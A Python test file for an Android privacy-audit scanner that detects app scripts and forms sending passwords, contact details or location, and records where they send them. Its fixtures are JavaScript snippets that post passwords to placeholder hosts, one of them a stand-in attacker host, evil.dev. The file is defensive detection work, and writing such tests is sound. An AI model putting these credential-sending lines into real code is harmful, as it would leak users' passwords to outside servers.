"""What pages and scripts send of a person, by the names under which they send it."""

from collections.abc import Iterable

import pytest

from phone_audit.apk.assets import page_requests
from phone_audit.apk.assets.page_requests import PageRequest
from tests.apk.assets.builders import look

FIELD = '<form><input id="p" type="password"></form>'


def sent(script: str, page: str = FIELD, **more: str) -> tuple[PageRequest, ...]:
    files = {"assets/www/index.html": page, "assets/www/a.js": script}
    named = {f"assets/www/{name}.js": text for name, text in more.items()}
    return look({name: text.encode() for name, text in (files | named).items()}).requests


def kinds(found: Iterable[PageRequest]) -> set[str]:
    return {one.data for one in found}


@pytest.mark.parametrize(
    "call",
    [
        "$.post('https://a.dev/in', {password: p})",
        "jQuery.get('https://a.dev/in?password=' + $('#p').val(), done)",
        "$.ajax({url: 'https://a.dev/in', success: function (r) { go(r) }, data: {user_pwd: p}})",
        "fetch('https://a.dev/in', {method: 'POST', body: JSON.stringify({userPassword: p})})",
        "fetch(`https://a.dev/in?pwd=${p}`)",
        "axios({method: 'post', url: 'https://a.dev/in', data: {senha: s}})",
        "this.http.post('https://a.dev/in', {password: p})",
        "$http.post('https://a.dev/in', {contrasena: p})",
        "G.post('https://a.dev/in', {password: p})",
        "x.open('POST', u); x.send('password=' + p)",
        "auth.signInWithEmailAndPassword(a, b)",
        "var d = {password: p}; $.post('https://a.dev/in', d, done)",
        "var d = new FormData(); d.append('password', p); fetch('https://a.dev/in', {body: d})",
        "$.post('https://a.dev/in', {user: u, pass: p})",
        "var d = {}; d.user = u; d.password = p; $.ajax({url: 'https://a.dev/in', data: d})",
        "var d = {}; d['user[password]'] = p; $.ajax({url: 'https://a.dev/in', data: d})",
        "var d = {password: p}; d = JSON.stringify(d); $.ajax({url: 'https://a.dev/in', data: d})",
        "var d = {password: p}; var b = JSON.stringify(d); fetch('https://a.dev/in', {body: b})",
        "var d = 'a=' + a; d += '&password=' + p; $.post('https://a.dev/in', d)",
        "var d = 'a=' + a + '&password=' + p; x.open('POST', u); x.send(d)",
        "$.post('https://a.dev/in', {userPassWord: '' + p})",
        "$.post('https://a.dev/in', {j_password: null != p ? p : ''})",
        "$.post('https://a.dev/in', {sPassword: `${p}`})",
        "(0, a.signInWithEmailAndPassword)(auth, e, p)",
        "this.http.post('https://a.dev/login', user)",
        "this.http.post(this.base + 'auth/login/', user)",
    ],
)
def test_a_password_that_is_sent(call: str) -> None:
    (found,) = [one for one in sent(f"function f() {{ {call} }}") if one.data == "password"]
    assert found.where == "assets/www/a.js"
    assert (found.url or "https://a.dev/").startswith("https://a.dev/")
    assert call.encode().find(found.shown.split("(")[0].encode()) >= 0


@pytest.mark.parametrize(
    "call",
    [
        "$.post('https://a.dev/in', {password: 'fixed'})",
        "var KEY = 's3cret'; $.post('https://a.dev/in', {user: 'app', password: KEY})",
        "$.post('https://a.dev/in', {passwordToken: t, hasPassword: h, passwordChanged: c})",
        "$.post('https://a.dev/in', {boardingPass: b, rememberPassword: r, pass: q})",
        "$.post('https://a.dev/in', {name: n}, function (r) { keep({password: r.p}) })",
        "keep({password: p})",
        "localStorage.setItem('password', p)",
        "db.put('users/' + id, {password: p})",
        "worker.send('password=' + p)",
        "cache.get('password')",
        "// $.post('https://a.dev/in', {password: p})",
        "/*\n$.post('https://a.dev/in', {password: p})\n*/",
        f"// {'x' * 200} $.post('https://a.dev/in', {{password: p}})",
        "router.post('/login', auth.login); app.post('/register', valid, register)",
        "var d = {password: p}; save(d); o = {send(d) { return $.post('https://a.dev/t', d) }}",
        "var e = {password: p}; try { f() } catch (e) { $.post('https://a.dev/t', e) }",
        "var n = {password: p}; for (const n of logs) { $.post('https://a.dev/t', n) }",
        "bus.post('/login', event); fastify.post('/login', login)",
        "this.http.post('https://a.dev/devices/register', d)",
        "this.http.post('https://a.dev/oauth/google/login', d)",
        "this.http.post('https://a.dev/catalogin', user)",
        "this.http.post('https://a.dev/push/login/google', token)",
        "this.http.post('https://a.dev/login/' + number)",
        "var d = {token: t}; this.http.post('https://a.dev/login', d)",
        "$.post('https://a.dev/in', {email: e, phone: n})",
        "$.get('https://a.dev/in?lat=' + a.lat + '&lon=' + a.lon)",
        "function login() { var d = {password: p}; keep(d) } function track(d) { $.post('https://a.dev/t', d) }",
        "var d = {password: p}; m.score = function (d) { $.post('https://a.dev/t', d) }",
    ],
)
def test_what_sends_no_password(call: str) -> None:
    assert sent(call) == ()


@pytest.mark.parametrize(
    "page",
    ["<p>no field</p>", "<style>input[type=password]{}</style>", "<script>$('input[type=\"password\"]')</script>"],
)
def test_a_password_in_no_field_of_a_page_is_nobodys(page: str) -> None:
    assert sent("$.post('https://a.dev/in', {password: p})", page=page) == ()


@pytest.mark.parametrize(
    "field",
    [
        '["type","password"]',
        'type:b?"text":"password"',
        """:type="show?'text':'password'\"""",
        'type:(e.show)?"text":"password"',
        '"type",x.isHidden?"password":"text"',
        "type:`password`",
        "secureTextEntry:!0",
    ],
)
def test_a_field_that_a_script_makes(field: str) -> None:
    assert kinds(sent("$.post('https://a.dev/in', {password: p})", page="", more=f"f({field})")) == {"password"}


def test_what_else_is_typed_in_counts_beside_a_password() -> None:
    found = sent(
        "$.post('https://a.dev/up', {password: p, userEmail: e, mobile: m, full_name: n, nickname: k, city: c})"
    )
    assert kinds(found) == {"password", "email", "typed-phone", "typed-name", "user-name"}


def test_a_log_in_by_phone_sends_no_e_mail() -> None:
    assert kinds(sent("auth.signInWithPassword({phone: n, password: p})")) == {"password", "typed-phone"}


def test_a_place_is_sent_by_a_script_that_asks_for_it() -> None:
    asks = "navigator.geolocation.getCurrentPosition(f);"
    sends = "$.get('http://a.dev/near?lat=' + p.coords.latitude + '&lng=' + p.coords.longitude)"
    assert kinds(sent(asks + sends, page="")) == {"location"}
    named = "var x = p.coords.latitude; var y = p.coords.longitude; fetch('http://a.dev/', {body: {lat: x, long: y}})"
    assert kinds(sent(asks + named, page="")) == {"location"}
    assert sent(f"// {asks}\n{sends}", page="") == sent(f"/* {asks} */{sends}", page="") == sent(sends, page="") == ()
    assert sent(asks + "$.get('http://a.dev/near?lat=' + p.coords.latitude)", page="") == ()
    assert sent(asks + "$.get('http://a.dev/near?lat=' + town.lat + '&lng=' + town.lng)", page="") == ()


@pytest.mark.parametrize(
    ("script", "url"),
    [
        ("$.post(API + '/in', {password: p})", "http://a.dev/v1"),
        ("$.post(cfg.API + '/in', {password: p})", "http://a.dev/v1"),
        ("fetch(`${API}/in`, {body: {password: p}})", "http://a.dev/v1"),
        ("var u = API + '/in'; $.post(u, {password: p})", "http://a.dev/v1"),
        ("$.post('http://b.dev/in', {password: p})", "http://b.dev/in"),
        ("$.ajax({data: {back: 'http://a.dev/cb', password: p}, url: 'https://b.dev/in'})", "https://b.dev/in"),
        ("$.ajax({url: base, headers: {SOAPAction: 'http://tempuri.org/x'}, data: {password: p}})", None),
        ("axios.post(there(), {password: p, redirect_uri: 'http://localhost/cb'})", None),
        ("$.post(DEBUG ? 'http://a.dev/in' : 'https://a.dev/in', {password: p})", None),
        ("$.post('http://a.dev'.replace('http:', 'https:'), {password: p})", None),
        ("function f(u = 'http://localhost') { $.post(u, {password: p}) }", None),
        ("function g() { var u = 'http://a.dev/help' } function f(u) { $.post(u, {password: p}) }", None),
        ("$.post(TWO + '/in', {password: p})", None),
        ("$.post(OLD + '/in', {password: p})", None),
        ("$.post(cfg.url, {password: p}, API)", None),
        ("$.post(url, {password: p})", None),
        ("function f(API) { $.post(API + '/in', {password: p}) }", None),
        ("$.post(case_, {password: p})", None),
        ("var u = 'https://a.dev/in'; if (D) u = 'http://a.dev/in'; $.post(u, {password: p})", None),
        ("$.post('http://localhost' && u, {password: p})", None),
    ],
)
def test_where_it_is_sent(script: str, url: str | None) -> None:
    more = (
        "var API   = 'http://a.dev/v1'; var url = 'http://c.dev/'; var TWO = 'http://c.dev/'; TWO = 'https://d.dev/'\n"
        "// var OLD = 'http://e.dev/'"
    )
    (found,) = sent(script, settings=more)
    assert found.url == url


@pytest.mark.parametrize("end", ["</form>", "</FORM >"])
def test_a_form_that_sends_it_itself(end: str) -> None:
    form = f'<form method="post" action="http://a.dev/in"><input name="u"><input name="p" type="password">{end}'
    (found,) = sent("", page=form)
    assert (found.where, found.at, found.data, found.url) == ("assets/www/index.html", 0, "password", "http://a.dev/in")
    search = '<form action="http://a.dev/find"><input name="q"></form>'
    assert sent("", page=search + FIELD) == sent("", page=f"<!-- {form} -->") == ()


def test_bytes_are_counted_where_letters_take_several() -> None:
    script = "alert('пароль'); $.post('https://a.dev/in', {password: p, x: 'é'})"
    (found,) = sent(script)
    assert script.encode()[found.at :].startswith(b"$.post(")
    assert found.shown.endswith("'é'})")


def test_many_alike_keep_out_no_other() -> None:
    decoys = "auth.signInWithPassword(a);" * 300
    found = sent(decoys, b="$.post('http://evil.dev/in', {password: p})")
    assert "http://evil.dev/in" in {one.url for one in found}


def too_much(**files: str) -> bool:
    found = look({f"assets/{name}.js": text.encode() for name, text in files.items()})
    return [(one.subject, one.code) for one in found.skipped] == [("", "too-much-script")]


def test_more_than_is_looked_at_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    call = "fetch('/a?pwd=' + p);"
    assert too_much(a=call * 401)
    assert not too_much(a=call * 400)
    assert too_much(a="".join(f"fetch('http://a.dev/{number}?pwd=' + p);" for number in range(201)))
    monkeypatch.setattr(page_requests, "_MOST_BYTES", 100)
    assert too_much(a="x" * 101)
    assert not too_much(a="x" * 100)
    assert look({"assets/b.svg": b"<svg>" + b"y" * 200}).skipped == ()


def test_expressions_without_end_are_read_within_a_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page_requests, "_MOST_CHARACTERS", 10_000)
    assert too_much(a="pass; a=b=c=[" + "fetch(a, b, c);" * 50)


@pytest.mark.promise("bombs-bounded")
@pytest.mark.parametrize(
    "piece",
    [
        "<form action=http://a.dev ",
        "<form action='http://a.dev/'>",
        "ajax({password:p",
        "fetch(a,{password:",
        "x.post('/login',u)",
        "http://a.dev/",
        "password",
        "type=a?",
        "`${",
        "a=http://",
        "geolocation.getCurrentPosition ",
        " ",
        "\\",
        "($",
    ],
)
def test_hostile_scripts_are_read_within_bounds(piece: str) -> None:
    assert len(sent(FIELD + piece * ((1 << 16) // len(piece)))) <= page_requests._MOST


@pytest.mark.promise("bombs-bounded")
@pytest.mark.parametrize(
    ("begin", "piece", "end"),
    [
        ("<form action=http://", "a", ""),
        ("<form ", ' action="http://a', ""),
        ("password; fetch('/a', {", "login", "x: p})"),
        ("password; fetch('/a', ", "(", ")"),
    ],
)
def test_what_never_ends_is_left_soon(begin: str, piece: str, end: str) -> None:
    page = begin + piece * (1 << 14) + end
    assert sent(page, page=page + FIELD) == ()


def test_one_file_that_is_too_large_silences_no_other() -> None:
    sends = "$.post('http://a.dev/in', {password: p})"
    for decoy in ("<form " * 201, "pass " + "fetch(x);" * 401, " " * ((1 << 23) + 1)):
        found = look({"assets/a.html": (FIELD + decoy).encode(), "assets/b.js": sends.encode()})
        assert [one.where for one in found.requests] == ["assets/b.js"]
        assert [one.code for one in found.skipped] == ["too-much-script"]


def test_where_the_budget_ends_nothing_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = "var d = {token: t}; $.post('http://a.dev/login', d);"
    for budget in range(0, 6_000, 500):
        monkeypatch.setattr(page_requests, "_MOST_CHARACTERS", budget)
        assert sent(f"/* password */ {calls}") == ()


def test_a_long_address_is_cut() -> None:
    (found,) = sent(f"$.post('http://a.dev/{'x' * 3_000}', {{password: p}})")
    assert found.url is not None
    assert len(found.url) < 2_100
